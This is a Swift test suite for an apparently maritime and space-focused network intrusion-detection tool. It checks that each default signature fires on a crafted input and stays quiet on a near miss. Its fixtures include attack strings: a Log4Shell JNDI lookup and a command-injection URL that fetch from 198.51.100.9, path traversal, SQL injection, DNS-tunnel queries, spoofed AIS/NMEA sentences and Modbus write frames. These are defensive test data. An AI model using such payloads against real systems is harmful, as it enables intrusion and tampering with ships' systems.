import Foundation
import PicketCore
import PicketSignatures
import Testing

/// Every default signature fires on an input made for it and stays quiet on a near miss.
struct SignatureCase: CustomTestStringConvertible, @unchecked Sendable {
    var id: String
    var kind: EventKind
    var fires: [String: FieldValue]
    var nearMiss: [String: FieldValue]
    var payload: String = ""
    var nearMissPayload: String? = nil
    var testDescription: String { id }
}

nonisolated(unsafe) let aisBase: [String: FieldValue] = ["ais.msg_type": .int(1), "ais.mmsi": .int(230111222), "ais.mmsi_valid": .bool(true),
                                     "ais.lat": .double(59.9), "ais.lon": .double(24.9), "ais.sog": .double(12), "ais.nav_status": .int(0)]
nonisolated(unsafe) let gnssBase: [String: FieldValue] = ["gnss.receiver": .string("bridge.log:GP"), "nmea.sentence": .string("RMC"), "gnss.fix": .bool(true)]

func merged(_ a: [String: FieldValue], _ b: [String: FieldValue]) -> [String: FieldValue] { a.merging(b) { _, new in new } }
func ip(_ s: String) -> FieldValue { IPNetwork.parseAddress(s).map { .ip($0) } ?? .string(s) }
/// A flow from an office host to a public server, as app-layer and packet events carry it.
nonisolated(unsafe) let flowBase: [String: FieldValue] = ["src_ip": ip("10.20.0.23"), "dest_ip": ip("203.0.113.66"), "src_port": .int(40000),
                                                          "dest_port": .int(443), "proto": .string("TCP")]
func flow(_ f: [String: FieldValue]) -> [String: FieldValue] { merged(flowBase, f) }
func dnsQ(_ name: String, _ f: [String: FieldValue] = [:]) -> [String: FieldValue] {
    merged(flow(["dest_ip": ip("10.20.0.1"), "dest_port": .int(53), "proto": .string("UDP"), "dns.type": .string("query"),
                 "dns.query": .string(name), "dns.rrtype": .string("A")]), f)
}
/// Bytes as a String of the same code units (all below 0x80), for binary payloads.
func bytes(_ b: [UInt8]) -> String { String(decoding: b, as: UTF8.self) }
func ais(_ f: [String: FieldValue]) -> [String: FieldValue] { merged(aisBase, f) }
func gnss(_ f: [String: FieldValue]) -> [String: FieldValue] { merged(gnssBase, f) }

let defaultSignatureCases: [SignatureCase] = [
    // Maritime
    SignatureCase(id: "1b7f0a52-3e64-4c1e-9a0d-5f2e6c7b8a01", kind: .ais,
                  fires: ais(["ais.implied_speed_kn": .double(71), "ais.jump_nm": .double(12)]),
                  nearMiss: ais(["ais.implied_speed_kn": .double(49), "ais.jump_nm": .double(12)])),
    SignatureCase(id: "1b7f0a52-3e64-4c1e-9a0d-5f2e6c7b8a01", kind: .ais,
                  fires: ais(["ais.track_speed_kn": .double(180)]), nearMiss: ais(["ais.track_speed_kn": .double(30)])),
    SignatureCase(id: "1b7f0a52-3e64-4c1e-9a0d-5f2e6c7b8a01", kind: .ais,
                  fires: ais(["ais.msg_type": .int(9), "ais.track_speed_kn": .double(450)]),
                  nearMiss: ais(["ais.msg_type": .int(9), "ais.track_speed_kn": .double(140)])),
    // An aircraft's one-second hop of 0.15 nm reads as 540 kn: noise under the one-mile guard.
    SignatureCase(id: "1b7f0a52-3e64-4c1e-9a0d-5f2e6c7b8a01", kind: .ais,
                  fires: ais(["ais.msg_type": .int(9), "ais.implied_speed_kn": .double(540), "ais.jump_nm": .double(1.5)]),
                  nearMiss: ais(["ais.msg_type": .int(9), "ais.implied_speed_kn": .double(540), "ais.jump_nm": .double(0.15)])),
    SignatureCase(id: "1b7f0a52-3e64-4c1e-9a0d-5f2e6c7b8a02", kind: .ais,
                  fires: ais(["ais.ship_type": .int(80), "ais.implied_speed_kn": .double(27), "ais.jump_nm": .double(0.9)]),
                  nearMiss: ais(["ais.ship_type": .int(60), "ais.implied_speed_kn": .double(27), "ais.jump_nm": .double(0.9)])),
    SignatureCase(id: "1b7f0a52-3e64-4c1e-9a0d-5f2e6c7b8a03", kind: .ais,
                  fires: ais(["ais.ship_type": .int(30), "ais.implied_speed_kn": .double(24), "ais.jump_nm": .double(0.8)]),
                  nearMiss: ais(["ais.ship_type": .int(70), "ais.implied_speed_kn": .double(24), "ais.jump_nm": .double(0.8)])),
    SignatureCase(id: "1b7f0a52-3e64-4c1e-9a0d-5f2e6c7b8a04", kind: .ais,
                  fires: ais(["ais.jump_nm": .double(25), "ais.gap_s": .double(120)]),
                  nearMiss: ais(["ais.jump_nm": .double(25), "ais.gap_s": .double(7200)])),
    SignatureCase(id: "1b7f0a52-3e64-4c1e-9a0d-5f2e6c7b8a05", kind: .ais,
                  fires: ais(["ais.identity_conflict": .bool(true)]),
                  nearMiss: ais(["ais.identity_conflict": .bool(false)])),
    SignatureCase(id: "1b7f0a52-3e64-4c1e-9a0d-5f2e6c7b8a06", kind: .ais,
                  fires: ais(["ais.msg_type": .int(5), "ais.identity_conflict": .bool(true)]),
                  nearMiss: ais(["ais.msg_type": .int(5), "ais.identity_conflict": .bool(false)])),
    SignatureCase(id: "1b7f0a52-3e64-4c1e-9a0d-5f2e6c7b8a07", kind: .ais,
                  fires: ais(["ais.mmsi_valid": .bool(false), "ais.mmsi": .int(199000001)]),
                  nearMiss: ais(["ais.mmsi_valid": .bool(false), "ais.msg_type": .int(21)])),
    SignatureCase(id: "1b7f0a52-3e64-4c1e-9a0d-5f2e6c7b8a08", kind: .ais,
                  fires: ais(["ais.mmsi": .int(123456789)]), nearMiss: ais(["ais.mmsi": .int(123456788)])),
    SignatureCase(id: "1b7f0a52-3e64-4c1e-9a0d-5f2e6c7b8a09", kind: .ais,
                  fires: merged(aisBase, ["ais.sog": .double(9)]).filter { $0.key != "ais.lat" && $0.key != "ais.lon" },
                  nearMiss: merged(aisBase, ["ais.sog": .double(0.2)]).filter { $0.key != "ais.lat" && $0.key != "ais.lon" }),
    SignatureCase(id: "1b7f0a52-3e64-4c1e-9a0d-5f2e6c7b8a10", kind: .ais,
                  fires: ais(["ais.lat": .double(-101.3)]), nearMiss: ais(["ais.lat": .double(-89.9)])),
    SignatureCase(id: "2c8a1b63-4f75-4d2f-8b1e-6a3f7d8c9b01", kind: .ais,
                  fires: ais(["ais.gap_s": .double(9000)]), nearMiss: ais(["ais.gap_s": .double(3600)])),
    SignatureCase(id: "2c8a1b63-4f75-4d2f-8b1e-6a3f7d8c9b02", kind: .ais,
                  fires: ais(["ais.gap_s": .double(30000)]), nearMiss: ais(["ais.gap_s": .double(52_981_353)])),
    SignatureCase(id: "2c8a1b63-4f75-4d2f-8b1e-6a3f7d8c9b03", kind: .ais,
                  fires: ais(["ais.gap_s": .double(2400), "ais.zone": .string("cable:Estlink 2")]),
                  nearMiss: ais(["ais.gap_s": .double(2400), "ais.zone": .string("fairway:Helsinki")])),
    // Went dark in the corridor, came back outside it.
    SignatureCase(id: "2c8a1b63-4f75-4d2f-8b1e-6a3f7d8c9b03", kind: .ais,
                  fires: ais(["ais.gap_s": .double(5400), "ais.prev_zone": .string("cable:Estlink 2")]),
                  nearMiss: ais(["ais.gap_s": .double(600), "ais.prev_zone": .string("cable:Estlink 2")])),
    SignatureCase(id: "2c8a1b63-4f75-4d2f-8b1e-6a3f7d8c9b04", kind: .ais,
                  fires: ais(["ais.zone": .string("pipeline:Balticconnector"), "ais.sog": .double(1.4), "ais.zone_dwell_s": .double(2700)]),
                  nearMiss: ais(["ais.zone": .string("pipeline:Balticconnector"), "ais.sog": .double(11), "ais.zone_dwell_s": .double(2700)])),
    SignatureCase(id: "2c8a1b63-4f75-4d2f-8b1e-6a3f7d8c9b05", kind: .ais,
                  fires: ais(["ais.nav_status": .int(1), "ais.sog": .double(5)]), nearMiss: ais(["ais.nav_status": .int(1), "ais.sog": .double(0.3)])),
    SignatureCase(id: "2c8a1b63-4f75-4d2f-8b1e-6a3f7d8c9b06", kind: .ais,
                  fires: ais(["ais.msg_type": .int(21), "ais.virtual_aid": .bool(true)]),
                  nearMiss: ais(["ais.msg_type": .int(21), "ais.virtual_aid": .bool(true), "ais.mmsi": .int(992446105)])),
    SignatureCase(id: "2c8a1b63-4f75-4d2f-8b1e-6a3f7d8c9b07", kind: .ais,
                  fires: ais(["ais.msg_type": .int(4), "ais.mmsi": .int(230111222)]), nearMiss: ais(["ais.msg_type": .int(4), "ais.mmsi": .int(2300999)])),
    SignatureCase(id: "2c8a1b63-4f75-4d2f-8b1e-6a3f7d8c9b08", kind: .ais,
                  fires: ais(["ais.nav_status": .int(1), "ais.zone": .string("cable:C-Lion1"), "ais.zone_dwell_s": .double(900)]),
                  nearMiss: ais(["ais.nav_status": .int(1), "ais.zone": .string("anchorage:Porvoo"), "ais.zone_dwell_s": .double(900)])),
    SignatureCase(id: "2c8a1b63-4f75-4d2f-8b1e-6a3f7d8c9b09", kind: .ais,
                  fires: ais(["ais.nav_status": .int(0), "ais.sog": .double(0.2), "ais.zone": .string("cable:Estlink 2"), "ais.zone_dwell_s": .double(2400)]),
                  nearMiss: ais(["ais.nav_status": .int(0), "ais.sog": .double(0.2), "ais.zone": .string("cable:Estlink 2"), "ais.zone_dwell_s": .double(900)])),
    // Space
    SignatureCase(id: "3d9b2c74-5086-4e3a-9c2f-7b4a8e9d0c01", kind: .gnss,
                  fires: gnss(["gnss.cn0_drop_db": .double(18), "gnss.sats_strong": .int(1), "gnss.group_complete": .bool(true)]),
                  nearMiss: gnss(["gnss.cn0_drop_db": .double(6), "gnss.sats_strong": .int(1), "gnss.group_complete": .bool(true)])),
    SignatureCase(id: "3d9b2c74-5086-4e3a-9c2f-7b4a8e9d0c02", kind: .gnss,
                  fires: gnss(["gnss.sats_strong": .int(2), "gnss.sats_tracked": .int(9), "gnss.cn0_baseline": .double(41), "gnss.group_complete": .bool(true)]),
                  nearMiss: gnss(["gnss.sats_strong": .int(2), "gnss.sats_tracked": .int(9), "gnss.cn0_baseline": .double(22), "gnss.group_complete": .bool(true)])),
    SignatureCase(id: "3d9b2c74-5086-4e3a-9c2f-7b4a8e9d0c03", kind: .gnss,
                  fires: gnss(["gnss.fix_lost_s": .double(90)]), nearMiss: gnss(["gnss.fix_lost_s": .double(30)])),
    SignatureCase(id: "3d9b2c74-5086-4e3a-9c2f-7b4a8e9d0c04", kind: .gnss,
                  fires: gnss(["gnss.fix_lost_s": .double(400), "gnss.cn0_mean": .double(15)]),
                  nearMiss: gnss(["gnss.fix_lost_s": .double(400), "gnss.cn0_mean": .double(38)])),
    // A few satellites that survive jamming keep the mean up but cannot give a fix.
    SignatureCase(id: "3d9b2c74-5086-4e3a-9c2f-7b4a8e9d0c04", kind: .gnss,
                  fires: gnss(["gnss.fix_lost_s": .double(400), "gnss.cn0_mean": .double(38), "gnss.sats_strong": .int(2)]),
                  nearMiss: gnss(["gnss.fix_lost_s": .double(400), "gnss.cn0_mean": .double(38), "gnss.sats_strong": .int(7)])),
    // Past five minutes the medium rule goes on unless the jamming rule has taken over.
    SignatureCase(id: "3d9b2c74-5086-4e3a-9c2f-7b4a8e9d0c03", kind: .gnss,
                  fires: gnss(["gnss.fix_lost_s": .double(400), "gnss.cn0_mean": .double(38), "gnss.sats_strong": .int(7)]),
                  nearMiss: gnss(["gnss.fix_lost_s": .double(400), "gnss.cn0_mean": .double(15)])),
    SignatureCase(id: "3d9b2c74-5086-4e3a-9c2f-7b4a8e9d0c05", kind: .gnss,
                  fires: gnss(["gnss.cn0_std": .double(0.5), "gnss.sats_tracked": .int(10), "gnss.cn0_mean": .double(50), "gnss.group_complete": .bool(true)]),
                  nearMiss: gnss(["gnss.cn0_std": .double(4.2), "gnss.sats_tracked": .int(10), "gnss.cn0_mean": .double(42), "gnss.group_complete": .bool(true)])),
    SignatureCase(id: "3d9b2c74-5086-4e3a-9c2f-7b4a8e9d0c06", kind: .gnss,
                  fires: gnss(["gnss.jump_m": .double(9000)]), nearMiss: gnss(["gnss.jump_m": .double(90)])),
    // After an outage the ship moved on: 5.6 km at 18 knots is no jump; 9 km at 300 knots is.
    SignatureCase(id: "3d9b2c74-5086-4e3a-9c2f-7b4a8e9d0c06", kind: .gnss,
                  fires: gnss(["gnss.jump_m": .double(9000), "gnss.jump_speed_kn": .double(300)]),
                  nearMiss: gnss(["gnss.jump_m": .double(5600), "gnss.jump_speed_kn": .double(18)])),
    SignatureCase(id: "3d9b2c74-5086-4e3a-9c2f-7b4a8e9d0c07", kind: .gnss,
                  fires: gnss(["gnss.time_jump_s": .double(-37)]), nearMiss: gnss(["gnss.time_jump_s": .double(0.4)])),
    SignatureCase(id: "3d9b2c74-5086-4e3a-9c2f-7b4a8e9d0c08", kind: .gnss,
                  fires: gnss(["gnss.alt_m": .double(412)]), nearMiss: gnss(["gnss.alt_m": .double(21)])),
    SignatureCase(id: "5d2c7f31-8a4b-4e09-b6d2-3c1e0f9a8b04", kind: .syslog,
                  fires: ["syslog.app": .string("chronyd"), "syslog.msg": .string("System clock wrong by 37.2 seconds, adjustment started")],
                  nearMiss: ["syslog.app": .string("chronyd"), "syslog.msg": .string("Selected source 192.0.2.1")]),
    // Space: ground segment and satcom in captures
    SignatureCase(id: "3d9b2c74-5086-4e3a-9c2f-7b4a8e9d0d01", kind: .packet,
                  fires: flow(["src_ip": ip("198.51.100.7"), "dest_ip": ip("192.168.100.1"), "dest_port": .int(9200), "tcp.flags": .int(2)]),
                  nearMiss: flow(["src_ip": ip("192.168.1.10"), "dest_ip": ip("192.168.100.1"), "dest_port": .int(9200), "tcp.flags": .int(2)])),
    SignatureCase(id: "3d9b2c74-5086-4e3a-9c2f-7b4a8e9d0d02", kind: .packet,
                  fires: flow(["src_ip": ip("198.51.100.7"), "dest_ip": ip("192.168.0.1"), "dest_port": .int(80), "tcp.flags": .int(2)]),
                  nearMiss: flow(["src_ip": ip("198.51.100.7"), "dest_ip": ip("192.168.0.1"), "dest_port": .int(80), "tcp.flags": .int(16)])),
    SignatureCase(id: "3d9b2c74-5086-4e3a-9c2f-7b4a8e9d0d03", kind: .http,
                  fires: flow(["src_ip": ip("198.51.100.7"), "dest_ip": ip("10.1.0.5"), "http.http_method": .string("POST"),
                               "http.url": .string("/api/processors/sat1/realtime/commands/ADCS/SET_MODE")]),
                  nearMiss: flow(["src_ip": ip("10.1.0.9"), "dest_ip": ip("10.1.0.5"), "http.http_method": .string("POST"),
                                  "http.url": .string("/api/processors/sat1/realtime/commands/ADCS/SET_MODE")])),
    SignatureCase(id: "3d9b2c74-5086-4e3a-9c2f-7b4a8e9d0d04", kind: .stream,
                  fires: flow(["src_ip": ip("198.51.100.7"), "dest_ip": ip("10.1.0.5"), "dest_port": .int(2900)]),
                  nearMiss: flow(["src_ip": ip("198.51.100.7"), "dest_ip": ip("10.1.0.5"), "dest_port": .int(2900)]),
                  payload: "POST /openc3-api/api HTTP/1.1\r\nContent-Type: application/json-rpc\r\n\r\n{\"jsonrpc\":\"2.0\",\"method\":\"cmd\",\"params\":[\"INST COLLECT with TYPE NORMAL\"],\"id\":1}",
                  nearMissPayload: "POST /openc3-api/api HTTP/1.1\r\nContent-Type: application/json-rpc\r\n\r\n{\"jsonrpc\":\"2.0\",\"method\":\"tlm\",\"params\":[\"INST HEALTH_STATUS TEMP1\"],\"id\":1}"),
    SignatureCase(id: "3d9b2c74-5086-4e3a-9c2f-7b4a8e9d0d05", kind: .http,
                  fires: flow(["dest_ip": ip("198.51.100.30"), "dest_port": .int(2101), "http.http_user_agent": .string("NTRIP RTKLIB/2.4.3"), "http.url": .string("/VRS_RTCM3")]),
                  nearMiss: flow(["dest_ip": ip("10.20.0.40"), "dest_port": .int(2101), "http.http_user_agent": .string("NTRIP RTKLIB/2.4.3"), "http.url": .string("/VRS_RTCM3")])),
    // Cyber: cleartext credentials
    SignatureCase(id: "0c5b8e47-2d9a-4b6f-a1e3-9f8d7c6b5a03", kind: .packet, fires: [:], nearMiss: [:],
                  payload: "GET / HTTP/1.1\r\nAuthorization: Basic YWRtaW46YWRtaW4=\r\n\r\n",
                  nearMissPayload: "GET / HTTP/1.1\r\nAuthorization: Bearer eyJ0eXAi\r\n\r\n"),
    SignatureCase(id: "8d3f6a10-2b7c-4e91-a5d4-1c0e9b7f3f01", kind: .stream, fires: flow(["dest_port": .int(21)]), nearMiss: flow(["dest_port": .int(21)]),
                  payload: "USER ops\r\nPASS hunter2\r\n", nearMissPayload: "USER ops\r\nPASV\r\n"),
    SignatureCase(id: "8d3f6a10-2b7c-4e91-a5d4-1c0e9b7f3f02", kind: .stream, fires: flow(["dest_port": .int(143)]), nearMiss: flow(["dest_port": .int(143)]),
                  payload: "a1 LOGIN bridge s3cret\r\n", nearMissPayload: "a1 CAPABILITY\r\n"),
    SignatureCase(id: "8d3f6a10-2b7c-4e91-a5d4-1c0e9b7f3f03", kind: .stream,
                  fires: flow(["src_port": .int(23), "dest_port": .int(51000)]), nearMiss: flow(["src_port": .int(23), "dest_port": .int(51000)]),
                  payload: "\r\nVSAT modem\r\nlogin: ", nearMissPayload: "\r\nWelcome, session resumed\r\n"),
    SignatureCase(id: "8d3f6a10-2b7c-4e91-a5d4-1c0e9b7f3f04", kind: .stream, fires: flow(["dest_port": .int(587)]), nearMiss: flow(["dest_port": .int(587)]),
                  payload: "EHLO ship\r\nAUTH PLAIN AGJvYgBzZWNyZXQ=\r\n", nearMissPayload: "EHLO ship\r\nSTARTTLS\r\n"),
    // SNMP v2c get-request, community "public" (30 26 02 01 01 04 06 "public" a0 19 ...), and the same with "s3cr3t".
    SignatureCase(id: "8d3f6a10-2b7c-4e91-a5d4-1c0e9b7f3f05", kind: .packet,
                  fires: flow(["dest_port": .int(161), "proto": .string("UDP")]), nearMiss: flow(["dest_port": .int(161), "proto": .string("UDP")]),
                  payload: bytes([0x30, 0x26, 0x02, 0x01, 0x01, 0x04, 0x06] + Array("public".utf8) + [0xa0, 0x19, 0x02, 0x01, 0x01]),
                  nearMissPayload: bytes([0x30, 0x26, 0x02, 0x01, 0x01, 0x04, 0x06] + Array("s3cr3t".utf8) + [0xa0, 0x19, 0x02, 0x01, 0x01])),
    SignatureCase(id: "8d3f6a10-2b7c-4e91-a5d4-1c0e9b7f3f06", kind: .stream, fires: flow(["dest_port": .int(80)]), nearMiss: flow(["dest_port": .int(80)]),
                  payload: "POST /login.cgi HTTP/1.1\r\nHost: 192.168.0.1\r\n\r\nuser=admin&password=admin",
                  nearMissPayload: "POST /status.cgi HTTP/1.1\r\nHost: 192.168.0.1\r\n\r\nrefresh=1"),
    // Cyber: DNS
    SignatureCase(id: "8d3f6a10-2b7c-4e91-a5d4-1c0e9b7f3a03", kind: .dns,
                  fires: dnsQ(String(repeating: "a1b2c3d4e5.", count: 15) + "t.example"),
                  nearMiss: dnsQ(String(repeating: "a1b2c3d4e5.", count: 11) + "t.example")),
    SignatureCase(id: "8d3f6a10-2b7c-4e91-a5d4-1c0e9b7f3a04", kind: .dns, fires: dnsQ("dnscat.4e6f7420612074756e6e656c"), nearMiss: dnsQ("dnscatalog.example.org")),
    SignatureCase(id: "8d3f6a10-2b7c-4e91-a5d4-1c0e9b7f3a05", kind: .dns,
                  fires: dnsQ("paaaaa.t.example", ["dns.rrtype": .string("NULL")]), nearMiss: dnsQ("paaaaa.t.example", ["dns.rrtype": .string("AAAA")])),
    SignatureCase(id: "8d3f6a10-2b7c-4e91-a5d4-1c0e9b7f3a08", kind: .dns,
                  fires: dnsQ("duskgytldkxiuqc6.onion"), nearMiss: dnsQ("onion.example.org")),
    SignatureCase(id: "8d3f6a10-2b7c-4e91-a5d4-1c0e9b7f3a09", kind: .dns, fires: dnsQ("bridge-cam.duckdns.org"), nearMiss: dnsQ("duckdns.org.example")),
    // Cyber: C2 and TLS
    SignatureCase(id: "8d3f6a10-2b7c-4e91-a5d4-1c0e9b7f3b05", kind: .http,
                  fires: flow(["dest_port": .int(80), "http.hostname": .string("203.0.113.66"), "http.url": .string("/d/update.ps1"), "http.http_method": .string("GET")]),
                  nearMiss: flow(["dest_port": .int(80), "http.hostname": .string("updates.example.net"), "http.url": .string("/d/update.ps1"), "http.http_method": .string("GET")])),
    SignatureCase(id: "8d3f6a10-2b7c-4e91-a5d4-1c0e9b7f3c01", kind: .tls,
                  fires: flow(["tls.ja3.hash": .string("e7d705a3286e19ea42f587b344ee6865")]), nearMiss: flow(["tls.ja3.hash": .string("ee4aa64cbe029971acab54d92627b181")])),
    SignatureCase(id: "8d3f6a10-2b7c-4e91-a5d4-1c0e9b7f3c02", kind: .tls,
                  fires: flow(["tls.sni": .string("7f3a-203-0-113-5.ngrok-free.app")]), nearMiss: flow(["tls.sni": .string("ngrok.com")])),
    SignatureCase(id: "8d3f6a10-2b7c-4e91-a5d4-1c0e9b7f3c03", kind: .tls,
                  fires: flow(["tls.sni": .string("fleet-vsat.ddns.net")]), nearMiss: flow(["tls.sni": .string("ddns.net.example.com")])),
    SignatureCase(id: "8d3f6a10-2b7c-4e91-a5d4-1c0e9b7f3c04", kind: .tls,
                  fires: flow(["tls.sni": .string("203.0.113.66")]), nearMiss: flow(["tls.sni": .string("a203.0.113.66.example")])),
    // Cyber: HTTP
    SignatureCase(id: "8d3f6a10-2b7c-4e91-a5d4-1c0e9b7f3d01", kind: .http,
                  fires: flow(["http.http_user_agent": .string("sqlmap/1.7.2#stable (https://sqlmap.org)")]),
                  nearMiss: flow(["http.http_user_agent": .string("Mozilla/5.0 (Windows NT 10.0; Win64; x64)")])),
    SignatureCase(id: "8d3f6a10-2b7c-4e91-a5d4-1c0e9b7f3d02", kind: .http,
                  fires: flow(["http.http_user_agent": .string("Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.1")]),
                  nearMiss: flow(["http.http_user_agent": .string("Microsoft-CryptoAPI/10.0")])),
    SignatureCase(id: "8d3f6a10-2b7c-4e91-a5d4-1c0e9b7f3d03", kind: .http,
                  fires: flow(["http.url": .string("/cgi-bin/view?file=../../../../etc/passwd")]), nearMiss: flow(["http.url": .string("/docs/passwd-policy.html")])),
    SignatureCase(id: "8d3f6a10-2b7c-4e91-a5d4-1c0e9b7f3d04", kind: .http,
                  fires: flow(["http.url": .string("/cargo/item?id=1%20UNION%20SELECT%20user,pass%20FROM%20users")]),
                  nearMiss: flow(["http.url": .string("/crew/reunion/selection?id=1")])),
    SignatureCase(id: "8d3f6a10-2b7c-4e91-a5d4-1c0e9b7f3d05", kind: .http,
                  fires: flow(["http.url": .string("/"), "http.http_user_agent": .string("${jndi:ldap://198.51.100.9:1389/a}")]),
                  nearMiss: flow(["http.url": .string("/docs/jndi/ldap.html"), "http.http_user_agent": .string("curl/8.5.0")])),
    SignatureCase(id: "8d3f6a10-2b7c-4e91-a5d4-1c0e9b7f3d06", kind: .http,
                  fires: flow(["http.url": .string("/cgi-bin/diag.cgi?ping=1.1.1.1;wget%20http://198.51.100.9/x.sh")]),
                  nearMiss: flow(["http.url": .string("/manuals/wget-and-curl.html")])),
    // Cyber: maritime and OT networks
    SignatureCase(id: "8d3f6a10-2b7c-4e91-a5d4-1c0e9b7f4a01", kind: .packet,
                  fires: flow(["src_ip": ip("198.51.100.7"), "dest_ip": ip("192.168.10.255"), "dest_port": .int(10110), "proto": .string("UDP")]),
                  nearMiss: flow(["src_ip": ip("192.168.10.21"), "dest_ip": ip("192.168.10.255"), "dest_port": .int(10110), "proto": .string("UDP")]),
                  payload: "!AIVDM,1,1,,A,13u?etPv2;0n:dDPwUM1U1Cb069D,0*24\r\n"),
    SignatureCase(id: "8d3f6a10-2b7c-4e91-a5d4-1c0e9b7f4a02", kind: .stream,
                  fires: flow(["src_ip": ip("198.51.100.7"), "dest_ip": ip("192.168.10.30"), "dest_port": .int(10110)]),
                  nearMiss: flow(["src_ip": ip("192.168.10.21"), "dest_ip": ip("192.168.10.30"), "dest_port": .int(10110)]),
                  payload: "$GPHDT,274.1,T*03\r\n$GPRMC,010203.00,A,5930.0000,N,02447.0000,E,18.0,274.0,271126,,,A*6C\r\n"),
    SignatureCase(id: "8d3f6a10-2b7c-4e91-a5d4-1c0e9b7f4a03", kind: .packet, fires: flow(["proto": .string("UDP")]), nearMiss: flow(["proto": .string("UDP")]),
                  payload: "$ECSSD,E5XY,SEA HORIZON,050,010,005,010,0,AI*4B\r\n", nearMissPayload: "$ECRMB,A,0.66,L,003,004,4917.24,N,12309.57,W,001.3,052.5,000.5,V*20\r\n"),
    // Modbus/TCP: MBAP (transaction 1, protocol 0, length 6, unit 1), then function 6 (write register) vs 3 (read).
    SignatureCase(id: "8d3f6a10-2b7c-4e91-a5d4-1c0e9b7f4a04", kind: .packet,
                  fires: flow(["src_ip": ip("198.51.100.7"), "dest_ip": ip("192.168.20.5"), "dest_port": .int(502)]),
                  nearMiss: flow(["src_ip": ip("198.51.100.7"), "dest_ip": ip("192.168.20.5"), "dest_port": .int(502)]),
                  payload: bytes([0x00, 0x01, 0x00, 0x00, 0x00, 0x06, 0x01, 0x06, 0x00, 0x10, 0x00, 0x01]),
                  nearMissPayload: bytes([0x00, 0x01, 0x00, 0x00, 0x00, 0x06, 0x01, 0x03, 0x00, 0x10, 0x00, 0x01])),
    // Function 8 sub-function 4 (force listen only) vs sub-function 0 (echo).
    SignatureCase(id: "8d3f6a10-2b7c-4e91-a5d4-1c0e9b7f4a05", kind: .packet,
                  fires: flow(["dest_ip": ip("192.168.20.5"), "dest_port": .int(502)]), nearMiss: flow(["dest_ip": ip("192.168.20.5"), "dest_port": .int(502)]),
                  payload: bytes([0x00, 0x02, 0x00, 0x00, 0x00, 0x06, 0x01, 0x08, 0x00, 0x04, 0x00, 0x00]),
                  nearMissPayload: bytes([0x00, 0x02, 0x00, 0x00, 0x00, 0x06, 0x01, 0x08, 0x00, 0x00, 0x12, 0x34])),
    SignatureCase(id: "8d3f6a10-2b7c-4e91-a5d4-1c0e9b7f4a06", kind: .packet,
                  fires: flow(["src_ip": ip("198.51.100.7"), "dest_ip": ip("192.168.20.5"), "dest_port": .int(502), "tcp.flags": .int(2)]),
                  nearMiss: flow(["src_ip": ip("192.168.1.7"), "dest_ip": ip("192.168.20.5"), "dest_port": .int(502), "tcp.flags": .int(2)])),
]


@Suite(.serialized) struct DefaultSignatureTests {
    static let compiled: CompiledSet = {
        let result = SignatureSet.load(paths: [Paths.repo.appendingPathComponent("Signatures").path])
        return try! CompiledSet(set: result.set!, cacheFolder: nil)
    }()

    func findings(_ kind: EventKind, _ fields: [String: FieldValue], payload: String) throws -> [String] {
        let matcher = try Matcher(Self.compiled)
        var sink = CollectingSink()
        // Stream chunks carry their stream's key, as reassembled TCP data does: stream signatures are matched per stream.
        let key = kind == .stream ? StreamKey(flowID: 1, toServer: true) : nil
        _ = matcher.process(TestEvent(kind: kind, fields: fields, payloadBytes: Array(payload.utf8), streamKey: key), input: "test", sink: &sink)
        return sink.findings.map(\.id)
    }

    @Test(arguments: defaultSignatureCases)
    func firesAndNearMiss(_ c: SignatureCase) throws {
        #expect(Self.compiled.set.signatures.contains { $0.id == c.id }, "no default signature \(c.id)")
        #expect(try findings(c.kind, c.fires, payload: c.payload).contains(c.id), "did not fire")
        #expect(!(try findings(c.kind, c.nearMiss, payload: c.nearMissPayload ?? c.payload)).contains(c.id), "fired on the near miss")
    }

    @Test("every default signature has a case here (correlations and those tested by sequence aside)")
    func coverage() {
        let covered = Set(defaultSignatureCases.map(\.id)).union(Self.sequenceTested)
        let missing = Self.compiled.set.signatures.map(\.id).filter { !covered.contains($0) }
        #expect(missing.isEmpty, "untested default signatures: \(missing)")
    }

    static let sequenceTested: Set<String> = [
        "3f0d9a5e-6c1b-4f57-9d36-1f2b8c0a7e01", "7a4e2b10-93c8-4d1e-8f60-5b2d1c9e4a02",  // SSH failures and brute force
        "3d9b2c74-5086-4e3a-9c2f-7b4a8e9d0c09",  // jamming across receivers
        // Counted rules (no findings of their own) and their correlations, tested by sequences below.
        Self.longLabel, Self.dnsTunnel, Self.txtQuery, Self.txtBurst, Self.tlsPublic, Self.tlsBeacon, Self.httpPublic, Self.httpBeacon,
        Self.syn, Self.portScan, Self.synService, Self.sweep, Self.bruteForceNet, Self.icmpEcho, Self.pingSweep, Self.ftpRefused, Self.ftpBrute,
    ]

    static let longLabel = "8d3f6a10-2b7c-4e91-a5d4-1c0e9b7f3a01", dnsTunnel = "8d3f6a10-2b7c-4e91-a5d4-1c0e9b7f3a02"
    static let txtQuery = "8d3f6a10-2b7c-4e91-a5d4-1c0e9b7f3a06", txtBurst = "8d3f6a10-2b7c-4e91-a5d4-1c0e9b7f3a07"
    static let tlsPublic = "8d3f6a10-2b7c-4e91-a5d4-1c0e9b7f3b01", tlsBeacon = "8d3f6a10-2b7c-4e91-a5d4-1c0e9b7f3b02"
    static let httpPublic = "8d3f6a10-2b7c-4e91-a5d4-1c0e9b7f3b03", httpBeacon = "8d3f6a10-2b7c-4e91-a5d4-1c0e9b7f3b04"
    static let syn = "8d3f6a10-2b7c-4e91-a5d4-1c0e9b7f3e01", portScan = "8d3f6a10-2b7c-4e91-a5d4-1c0e9b7f3e02"
    static let synService = "8d3f6a10-2b7c-4e91-a5d4-1c0e9b7f3e03", sweep = "8d3f6a10-2b7c-4e91-a5d4-1c0e9b7f3e04"
    static let bruteForceNet = "8d3f6a10-2b7c-4e91-a5d4-1c0e9b7f3e05"
    static let icmpEcho = "8d3f6a10-2b7c-4e91-a5d4-1c0e9b7f3e06", pingSweep = "8d3f6a10-2b7c-4e91-a5d4-1c0e9b7f3e07"
    static let ftpRefused = "8d3f6a10-2b7c-4e91-a5d4-1c0e9b7f3e08", ftpBrute = "8d3f6a10-2b7c-4e91-a5d4-1c0e9b7f3e09"

    /// `n` events made by `make(k)`, `spacing` seconds apart.
    func events(_ n: Int, spacing: Double = 1, kind: EventKind, payload: (Int) -> String = { _ in "" },
                _ make: (Int) -> [String: FieldValue]) -> [TestEvent] {
        (0..<n).map { k in
            let t = Double(k) * spacing
            return TestEvent(kind: kind, fields: make(k), payloadBytes: Array(payload(k).utf8),
                             timestamp: Timestamp(seconds: 1_795_780_800 + Int64(t), nanos: Int64((t - t.rounded(.down)) * 1e9)),
